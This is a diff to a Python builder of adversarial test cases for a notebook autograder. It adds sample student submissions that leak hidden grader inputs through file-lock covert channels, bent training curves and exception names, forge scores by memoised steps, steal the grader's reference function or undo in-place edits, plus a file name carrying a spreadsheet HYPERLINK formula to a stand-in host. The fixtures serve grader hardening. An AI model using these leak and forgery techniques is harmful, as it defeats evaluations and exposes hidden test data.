@@ -650,6 +650,8 @@ def build(dest: Path | None, *, root: Path, victim_notebook: Path, outdir: Path,
        "    return np.zeros((0, 1000 + int(1e6 * abs(float(np.ravel(output)[0]))) % 9000))\n"),
        baseline="master", relation="at_most")  # its input stays untouched: that check it passes
 
+    channels(nb, master, wrong)
+
     for case in cases if dest is not None else ():
         (dest / f"{case.name}.ipynb").write_bytes(case.data)
     return cases
@@ -861,3 +863,220 @@ def kernel_boundary(nb, master: dict, wrong: dict, stealing, *, root: Path, outd
        relation="at_most")
     nb("inherited_fds", "stolen", stealing(INHERITED_FDS), baseline="wrong", relation="at_most")
     nb("newly_denied_calls", "stolen", stealing(NEWLY_DENIED), baseline="wrong", relation="at_most")
+
+
+# ---------------------------------------------------------------- channels out of the grader
+# What a student is shown comes only from workers that never saw a hidden input and never lived
+# next to one; a step of the training loop is confirmed by a worker that never lived next to
+# the loop's; grader code stays in the worker it was sent to; what the worker reports about
+# its own arguments is not trusted. tests/test_hostile_channels.py also judges what these
+# cases' feedback shows (graded under two seeds, it must not change).
+
+# The twin of the public example, asked for it, answers with what the main worker saw: relayed
+# through locks on files every worker can read, one byte per handshake (no namespace stops it;
+# only never running the two at the same time does).
+TWIN_RELAY_FLOCK = """
+import fcntl, os, threading, struct, time
+_DIR = os.path.dirname(os.__file__)
+_NAMES = sorted(n for n in os.listdir(_DIR) if n.endswith('.py'))[:10]
+_FD = [os.open(os.path.join(_DIR, n), os.O_RDONLY) for n in _NAMES]
+_DATA, _REQ, _ACK = _FD[:8], _FD[8], _FD[9]
+_MESSAGE = bytearray(40)
+_STARTED = []
+_PUBLIC = np.array([[0.5, 0.9], [0.1, 0.0]])   # the q1 public example
+
+def _set(fd, on):
+    fcntl.flock(fd, fcntl.LOCK_EX if on else fcntl.LOCK_UN)
+
+def _held(fd):
+    try:
+        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
+    except BlockingIOError:
+        return True
+    fcntl.flock(fd, fcntl.LOCK_UN)
+    return False
+
+def _sender():  # in the main worker: one byte per handshake, for ever
+    req = False
+    while True:
+        for byte in bytes(_MESSAGE):
+            for bit in range(8):
+                _set(_DATA[bit], byte >> bit & 1)
+            req = not req
+            _set(_REQ, req)
+            while _held(_ACK) != req:
+                time.sleep(0.0002)
+
+_STATE = {'req': False}
+
+def _receive(count):  # in the twin
+    out = bytearray()
+    for _ in range(count):
+        while _held(_REQ) == _STATE['req']:
+            time.sleep(0.0002)
+        _STATE['req'] = not _STATE['req']
+        out.append(sum(_held(_DATA[bit]) << bit for bit in range(8)))
+        _set(_ACK, _STATE['req'])
+    return bytes(out)
+
+def sigmoid_output_to_derivative(output):
+    a = np.asarray(output, dtype=float)
+    if a.shape == _PUBLIC.shape and np.array_equal(a, _PUBLIC):
+        return np.frombuffer(_receive(40), dtype=np.uint8).astype(int)
+    if a.ndim == 2:
+        _MESSAGE[:] = struct.pack('<2i', *a.shape) + a.ravel()[:4].tobytes()
+        if not _STARTED:
+            _STARTED.append(threading.Thread(target=_sender, daemon=True))
+            _STARTED[0].start()
+    return a * (1 + a)  # wrong, so the failed check shows the example
+"""
+
+# The training curve drawn in feedback, bent so its points spell the first hidden q1 input the
+# worker saw and the hidden q4 alphas (a point per byte).
+CURVE_LEAK = """
+import sys, struct, math
+_SEEN = {'q1': None, 'alphas': []}
+_B = 60.0
+_S0 = np.array([[_B, _B, 0, 0], [_B, _B, 0, 0], [-_B / 2, -1.5 * _B, 0, 0]])  # OR and AND units
+
+def sigmoid_output_to_derivative(output):
+    if _SEEN['q1'] is None and sys._getframe(1).f_code.co_name == '_call':  # a direct call: a hidden input
+        a = np.asarray(output, dtype=float)
+        _SEEN['q1'] = struct.pack('<2i', *a.shape[:2]) + a.ravel()[:6].tobytes()
+    return output * (1 - output)
+
+def _with_error(e):
+    w = 2 * math.log((1 - e) / e)  # rows (0,0), (1,1) output e, the XOR rows 1 - e: error e
+    return _S0.copy(), np.array([[w], [-w], [-w], [0.0]])
+
+def update_synapses(synapse_0, synapse_1, layer_0, layer_1, layer_1_delta, layer_2_delta, alpha):
+    caller = sys._getframe(1)
+    if caller.f_code.co_name == '_call' and len(_SEEN['alphas']) < 3:
+        _SEEN['alphas'].append(float(alpha))
+    y = caller.f_locals.get('y') if caller.f_code.co_name == 'train' else None
+    if y is not None and np.shape(synapse_0) == (3, 4) and np.array_equal(np.ravel(y), [0, 1, 1, 0]):
+        j = caller.f_locals['j']
+        message = (_SEEN['q1'] or b'') + struct.pack('<3d', *(_SEEN['alphas'] + [0, 0, 0])[:3])
+        if j < len(message):
+            return _with_error(10 ** (math.log10(0.03) + math.log10(0.8 / 0.03) * (message[j] + 0.5) / 256))
+        return _with_error(0.035)
+    return (synapse_0 - alpha * layer_0.T.dot(layer_1_delta), synapse_1 - alpha * layer_1.T.dot(layer_2_delta))
+"""
+
+# The name of the exception raised on a hidden input, one of 64 builtin names: the hidden sizes.
+EXCEPTION_CHANNEL = """
+import sys, builtins
+_NAMES = sorted({getattr(builtins, n).__name__ for n in dir(builtins)
+                 if isinstance(getattr(builtins, n), type) and issubclass(getattr(builtins, n), BaseException)}
+                - {'NotImplementedError', 'BaseExceptionGroup', 'ExceptionGroup'})
+
+def _raise_number(v):
+    cls = getattr(builtins, _NAMES[v % len(_NAMES)])
+    raise cls.__new__(cls)
+
+def compute_layer_2_delta(layer_2, y):
+    n, k = np.shape(layer_2)
+    if sys._getframe(1).f_code.co_name == '_call' and k > 1:
+        _raise_number((n - 2) * 8 + (k - 2))
+    return (layer_2 - y) * sigmoid_output_to_derivative(layer_2)
+"""
+
+# q5 with functions that are wrong (or zero) outside the loop: update_synapses computes the
+# step by finite differences inside the kit's loop, remembers it, and replays it when the
+# grader confirms that step by a direct call.
+NUMERIC_UPDATE = """
+import sys
+_MEMO = {}
+
+def _loss(X, y, s0, s1):
+    l1 = 1 / (1 + np.exp(-X.dot(s0)))
+    return 0.5 * np.sum((1 / (1 + np.exp(-l1.dot(s1))) - y) ** 2)
+
+def _numeric_step(X, y, s0, s1, alpha, h=1e-6):
+    grads = []
+    for which, w in ((0, s0), (1, s1)):
+        g = np.zeros_like(w)
+        for idx in np.ndindex(*w.shape):
+            up, dn = w.copy(), w.copy()
+            up[idx] += h
+            dn[idx] -= h
+            pair_up, pair_dn = [s0, s1], [s0, s1]
+            pair_up[which], pair_dn[which] = up, dn
+            g[idx] = (_loss(X, y, *pair_up) - _loss(X, y, *pair_dn)) / (2 * h)
+        grads.append(g)
+    return s0 - alpha * grads[0], s1 - alpha * grads[1]
+
+def update_synapses(synapse_0, synapse_1, layer_0, layer_1, layer_1_delta, layer_2_delta, alpha):
+    key = (np.asarray(synapse_0, float).tobytes(), np.asarray(synapse_1, float).tobytes())
+    if key in _MEMO:
+        return _MEMO[key]
+    caller = sys._getframe(1)
+    if caller.f_code.co_name == 'train':
+        X, y = np.asarray(layer_0, float), np.asarray(caller.f_locals['y'], float)
+        _MEMO[key] = _numeric_step(X, y, np.asarray(synapse_0, float), np.asarray(synapse_1, float), alpha)
+        return _MEMO[key]
+    return %s
+"""
+WRONG_Q2 = "def compute_layer_2_delta(layer_2, y):\n    return (y - layer_2) * sigmoid_output_to_derivative(layer_2)\n"
+
+# The reference's slope, swapped in by the grader for q2's checks, kept and used in the loop.
+STEAL_SUBSTITUTE = """
+import sys
+_STOLEN = {}
+
+def sigmoid_output_to_derivative(output):
+    if 'slope' in _STOLEN and sys._getframe(1).f_code.co_name != '_call':
+        return _STOLEN['slope'](output)
+    return output * (1 + output)
+"""
+STEAL_Q2 = """
+def compute_layer_2_delta(layer_2, y):
+    slope = globals()['sigmoid_output_to_derivative']
+    if slope.__code__.co_filename == '<grader>':
+        _STOLEN['slope'] = slope
+    return (layer_2 - y) * slope(layer_2)
+"""
+
+# An input changed in place, then an untouched copy put back where the worker looks.
+INPLACE_RESTORED = """
+import sys
+def sigmoid_output_to_derivative(output):
+    frame = sys._getframe(1)
+    kept = output.copy()
+    output *= 1 + output                     # wrong, and in place: the caller's array changes
+    for name in ('args', 'kept'):
+        holder = frame.f_locals.get(name)
+        if isinstance(holder, list) and holder and holder[0] is output:
+            holder[0] = kept                 # ... while the list the grader is shown holds a copy
+    return output
+"""
+# A file name a spreadsheet would run as a formula.
+FORMULA_ID = '=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"x.example","click")'
+CHANNEL_CASES = ("twin_relay_flock", "curve_channel", "exception_name_channel", "memo_wrong_q2", "memo_zeros",
+                 "steal_substitute", "inplace_restored", FORMULA_ID)
+
+
+def channels(nb, master: dict, wrong: dict) -> None:
+    """The channel cases (their names: :data:`CHANNEL_CASES`), each judged by its score here."""
+    with_ = dict
+    nb("twin_relay_flock", "stolen", with_(master, sigmoid_output_to_derivative=TWIN_RELAY_FLOCK),
+       baseline="wrong", relation="same")
+    nb("curve_channel", "stolen", with_(master, update_synapses=CURVE_LEAK), baseline="master", relation="at_most")
+    nb("exception_name_channel", "stolen", with_(master, compute_layer_2_delta=EXCEPTION_CHANNEL),
+       baseline="master", relation="at_most")
+    right_update = ("(synapse_0 - alpha * layer_0.T.dot(layer_1_delta), "
+                    "synapse_1 - alpha * layer_1.T.dot(layer_2_delta))")
+    nb("memo_wrong_q2", "forgery", with_(master, compute_layer_2_delta=WRONG_Q2,
+                                         update_synapses=NUMERIC_UPDATE % right_update),
+       baseline="master", relation="at_most", zero_questions=("q5_convergence",))
+    nb("memo_zeros", "forgery", {**master, **ZEROS, "update_synapses": NUMERIC_UPDATE % "(synapse_0, synapse_1)"},
+       baseline="zeros", relation="at_most", zero_questions=("q5_convergence",))
+    nb("steal_substitute", "stolen", with_(master, sigmoid_output_to_derivative=STEAL_SUBSTITUTE,
+                                           compute_layer_2_delta=STEAL_Q2),
+       baseline="wrong", relation="at_most", zero_questions=("q5_convergence",))
+    nb("inplace_restored", "forgery", with_(wrong, sigmoid_output_to_derivative=INPLACE_RESTORED),
+       baseline="wrong", relation="at_most", zero_questions=("q1_sigmoid_derivative",))
+    nb(FORMULA_ID, "forgery", master, baseline="master", relation="same")
+    # Two more honest bystanders: the corpus may need a third grader session, each ending with two.
+    for i in (5, 6):
+        nb(f"zz_bystander_{i}", "baseline", master, baseline="master", order="last")
